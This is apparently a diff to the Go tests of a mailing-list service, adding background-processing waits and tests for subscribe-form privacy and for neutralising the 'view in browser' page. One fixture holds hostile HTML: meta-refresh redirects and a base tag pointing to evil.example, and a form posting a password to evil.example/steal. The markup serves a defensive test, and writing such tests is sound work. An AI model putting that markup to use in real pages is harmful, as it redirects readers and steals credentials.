@@ -44,6 +44,7 @@ func TestSubscribeConfirmUpdateUnsubscribe(t *testing.T) {
 	if r.code != 200 || !strings.Contains(r.body, "check your inbox") {
 		t.Fatalf("subscribe: %d\n%s", r.code, r.body)
 	}
+	e.srv.Wait() // the subscription is recorded in the background
 	var cid int64
 	if err := e.db.QueryRow(ctx, `SELECT id FROM contacts WHERE email = 'anna@example.org'`).Scan(&cid); err != nil {
 		t.Fatal(err)
@@ -172,6 +173,7 @@ func TestSubscribeRevealsNothing(t *testing.T) {
 		return r.body
 	}
 	a := send("new@example.org")
+	e.srv.Wait()
 	e.smtp.wait(t)
 	b := send("new@example.org")
 	c := send("blocked@example.org")
@@ -188,6 +190,56 @@ func TestSubscribeRevealsNothing(t *testing.T) {
 	}
 }
 
+// The subscribe form answers before anything looks at the address: with
+// the contacts and blocklist tables locked, a new, a known and a blocklisted
+// address all get their page at once; the work is done in the background
+// once the lock is gone (the blocklisted address stays out).
+func TestSubscribeAnswersBeforeLookingUpTheAddress(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t, envOpt{})
+	list := e.list("news", "single")
+	known := e.contact("known@example.org", "Known", nil)
+	if err := e.cs.BlockAddress(context.Background(), "blocked@example.org", "manual", ""); err != nil {
+		t.Fatal(err)
+	}
+	forms := map[string]string{}
+	for _, a := range []string{"new@example.org", "known@example.org", "blocked@example.org"} {
+		forms[a] = e.getForm("/s/news")
+	}
+	tx, err := e.db.Begin(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer tx.Rollback(context.Background())
+	if _, err := tx.Exec(context.Background(), `LOCK TABLE contacts, blocklist, subscriptions IN ACCESS EXCLUSIVE MODE`); err != nil {
+		t.Fatal(err)
+	}
+	c := e.client
+	c.Timeout = 5 * time.Second // a handler waiting for the lock fails the test
+	var bodies []string
+	for a, tok := range forms {
+		r := e.post("/s/news", url.Values{"csrf": {tok}, "email": {a}, "consent": {"yes"}})
+		if r.code != 200 {
+			t.Fatalf("%s: %d while the tables are locked", a, r.code)
+		}
+		bodies = append(bodies, r.body)
+	}
+	if bodies[0] != bodies[1] || bodies[0] != bodies[2] {
+		t.Error("pages differ between a new, a known and a blocklisted address")
+	}
+	tx.Rollback(context.Background())
+	e.srv.Wait()
+	if id := e.scalar(`SELECT id FROM contacts WHERE email = 'new@example.org'`).(int64); e.subStatus(id, list) != "confirmed" {
+		t.Error("new address not subscribed in the background")
+	}
+	if e.subStatus(known, list) != "confirmed" {
+		t.Error("known address not subscribed in the background")
+	}
+	if e.scalar(`SELECT count(*) FROM contacts WHERE email = 'blocked@example.org'`).(int64) != 0 {
+		t.Error("blocklisted address became a contact")
+	}
+}
+
 func TestSingleOptInSubscribesAtOnce(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOpt{})
@@ -197,6 +249,7 @@ func TestSingleOptInSubscribesAtOnce(t *testing.T) {
 	if r.code != 200 || !strings.Contains(r.body, "You are subscribed") {
 		t.Fatalf("%d\n%s", r.code, r.body)
 	}
+	e.srv.Wait()
 	cid := e.scalar(`SELECT id FROM contacts WHERE lower(email) = 'piet@example.org'`).(int64)
 	if e.subStatus(cid, list) != "confirmed" {
 		t.Fatal("single opt-in not confirmed")
@@ -656,6 +709,7 @@ func TestRetentionTold(t *testing.T) {
 	if r.code != 200 {
 		t.Fatalf("subscribe: %d", r.code)
 	}
+	e.srv.Wait() // the form records in the background
 	ev := e.scalar(`SELECT evidence FROM consent_records WHERE action = 'opt-in'`).(string)
 	if !strings.Contains(ev, keep) || !strings.HasPrefix(ev, "subscribe-form/nl/") {
 		t.Errorf("evidence %q lacks the retention sentence", ev)
@@ -713,6 +767,32 @@ func TestViewInBrowser(t *testing.T) {
 	}
 }
 
+// The view page cannot redirect, post a form off-site or re-base links:
+// meta refresh is removed, and the CSP forbids forms and <base>.
+func TestViewInBrowserNeutralised(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t, envOpt{})
+	l := e.list("a", "single")
+	cid := e.contact("anna@example.org", "Anna", nil, l)
+	doc := `<!DOCTYPE html><html><head><META HTTP-EQUIV="Refresh" content="0;url=https://evil.example/"><meta http-equiv=refresh content="1;https://evil.example/"/>
+<base href="https://evil.example/"><meta charset="utf-8"><title>T</title></head><body><p>Hi</p>
+<form action="https://evil.example/steal" method="post"><input name="password"></form><script>var s = "<meta http-equiv=refresh>";</script></body></html>`
+	camp := e.campaign("regular", doc, []int64{l}, cid)
+	r := e.get(e.mint(rtoken.View, cid, camp))
+	if r.code != 200 || !strings.Contains(r.body, "<p>Hi</p>") || !strings.Contains(r.body, `<meta charset="utf-8">`) {
+		t.Fatalf("view: %d\n%s", r.code, r.body)
+	}
+	if low := strings.ToLower(r.body); strings.Contains(low, `http-equiv="refresh"`) || strings.Contains(low, "http-equiv=refresh content") {
+		t.Errorf("meta refresh served:\n%s", r.body)
+	}
+	csp := r.hdr.Get("Content-Security-Policy")
+	for _, want := range []string{"form-action 'none'", "base-uri 'none'", "sandbox", "default-src 'none'"} {
+		if !strings.Contains(csp, want) {
+			t.Errorf("view CSP %q lacks %s", csp, want)
+		}
+	}
+}
+
 // The forms that send mail are capped per client address.
 func TestFormRateLimit(t *testing.T) {
 	t.Parallel()
@@ -731,6 +811,7 @@ func TestFormRateLimit(t *testing.T) {
 	if r := e.post("/privacy", url.Values{"csrf": {e.getForm("/privacy")}, "email": {"x@example.org"}, "kind": {"access"}}); r.code != 429 {
 		t.Fatalf("privacy form over the cap: %d", r.code)
 	}
+	e.srv.Wait()
 	if n := e.scalar(`SELECT count(*) FROM contacts`).(int64); n != 3 {
 		t.Fatalf("%d contacts, want 3", n)
 	}
